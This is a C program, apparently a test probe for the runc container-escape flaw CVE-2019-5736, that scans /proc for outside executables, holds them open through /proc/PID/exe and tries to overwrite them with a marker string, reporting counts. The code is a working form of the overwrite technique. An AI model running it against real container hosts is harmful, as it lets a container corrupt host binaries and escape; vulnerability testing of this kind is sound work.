// The attack of CVE-2019-5736 from inside: exe-thief SECONDS. Watches /proc for processes whose executable is none of
// this root's, keeps what it gets of them by /proc/PID/exe, and tries to write it through /proc/self/fd, at once and
// after the process is gone. Says "saw" for each one seen, "opened", and "wrote" when a write went through.
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static dev_t own_device;
static ino_t own_inode;
static ino_t busybox_inode;

static int try_write(int fd) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  const int writable = open(path, O_WRONLY | O_APPEND);
  if (writable < 0) return 0;
  const int wrote = write(writable, "stolen", 6) == 6;
  close(writable);
  return wrote;
}

int main(int count, char** words) {
  struct stat found;
  if (count != 2 || stat("/proc/self/exe", &found) != 0) return 2;
  own_device = found.st_dev;
  own_inode = found.st_ino;
  busybox_inode = stat("/bin/busybox", &found) == 0 ? found.st_ino : 0;
  const time_t end = time(NULL) + atoi(words[1]);
  int kept[64];
  int keeps = 0, seen = 0, opened = 0, wrote = 0;
  int last = 0;
  while (time(NULL) < end) {
    DIR* proc = opendir("/proc");
    for (struct dirent* entry; (entry = readdir(proc)) != NULL;) {
      if (!isdigit(entry->d_name[0]) || atoi(entry->d_name) == getpid()) continue;
      if (atoi(entry->d_name) > last) {
        last = atoi(entry->d_name);
        ++seen;
      }
      char path[280];
      snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
      const int fd = open(path, O_RDONLY | O_CLOEXEC);
      if (fd < 0) continue;
      if (fstat(fd, &found) != 0 || (found.st_dev == own_device && (found.st_ino == own_inode || found.st_ino == busybox_inode))) {
        close(fd);
        continue;
      }
      ++opened;
      wrote += try_write(fd);
      if (keeps < 64) {
        kept[keeps++] = fd;
      } else {
        close(fd);
      }
    }
    closedir(proc);
    for (int i = 0; i < keeps; ++i) wrote += try_write(kept[i]);
  }
  printf("seen %d opened %d wrote %d\n", seen, opened, wrote);
  return 0;
}
